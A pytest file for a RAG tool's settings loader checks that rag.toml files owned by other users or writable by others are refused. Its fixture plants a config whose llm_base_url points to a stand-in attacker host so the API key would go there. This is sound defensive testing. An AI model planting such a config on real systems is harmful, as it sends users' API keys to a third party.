"""A rag.toml someone else could have written is refused: it chooses the LLM URL that receives the API key."""

from __future__ import annotations

import os

import pytest

from rag.settings import Settings

PLANTED = 'llm_base_url = "http://attacker.example:8080/v1"\n'

needs_root = pytest.mark.skipif(not hasattr(os, "geteuid") or os.geteuid() != 0,
                                reason="giving a file to another user needs root")


@pytest.fixture
def cwd(tmp_path, monkeypatch):
    """A working directory with no RAG_* environment pointing elsewhere: `rag` reads ./rag.toml."""
    for name in list(os.environ):
        if name.startswith("RAG_"):
            monkeypatch.delenv(name)
    monkeypatch.chdir(tmp_path)
    return tmp_path


def test_own_config_file_is_read(cwd):
    (cwd / "rag.toml").write_text('llm_base_url = "http://gpu1:8000/v1"\n')
    os.chmod(cwd / "rag.toml", 0o644)
    assert Settings().llm_base_url == "http://gpu1:8000/v1"


@pytest.mark.attack(7, "a rag.toml planted by another user redirects the LLM URL and the API key")
@needs_root
def test_config_file_of_another_user_is_refused(cwd):
    # The attack: another local user drops rag.toml in a shared directory where the victim runs `rag`.
    planted = cwd / "rag.toml"
    planted.write_text(PLANTED)
    os.chown(planted, 65534, 65534)
    with pytest.raises(ValueError, match=r"refusing to read rag\.toml.*uid 65534.*chown") as info:
        Settings(llm_api_key="sk-secret")
    assert "attacker" not in str(info.value)


@pytest.mark.attack(7, "a rag.toml others can write redirects the LLM URL and the API key")
@pytest.mark.parametrize("mode", [0o666, 0o664])
def test_config_file_writable_by_others_is_refused(cwd, mode):
    planted = cwd / "rag.toml"
    planted.write_text(PLANTED)
    os.chmod(planted, mode)
    with pytest.raises(ValueError, match=r"writable by .*chmod go-w"):
        Settings()


@needs_root
def test_rag_config_names_the_file_that_is_checked(cwd, monkeypatch):
    elsewhere = cwd / "trusted.toml"
    elsewhere.write_text('llm_base_url = "http://gpu1:8000/v1"\n')
    os.chmod(elsewhere, 0o600)
    planted = cwd / "rag.toml"
    planted.write_text(PLANTED)
    os.chown(planted, 65534, 65534)
    monkeypatch.setenv("RAG_CONFIG", str(elsewhere))
    assert Settings().llm_base_url == "http://gpu1:8000/v1"
    monkeypatch.setenv("RAG_CONFIG", str(planted))
    with pytest.raises(ValueError, match="RAG_CONFIG to a file you trust"):
        Settings()


def test_the_command_line_exits_with_the_reason(cwd, capsys):
    import typer

    from rag.cli.common import load_settings

    (cwd / "rag.toml").write_text(PLANTED)
    os.chmod(cwd / "rag.toml", 0o666)
    with pytest.raises(typer.Exit) as info:
        load_settings()
    assert info.value.exit_code == 2
    assert "chmod go-w" in capsys.readouterr().err.replace("\n", "")
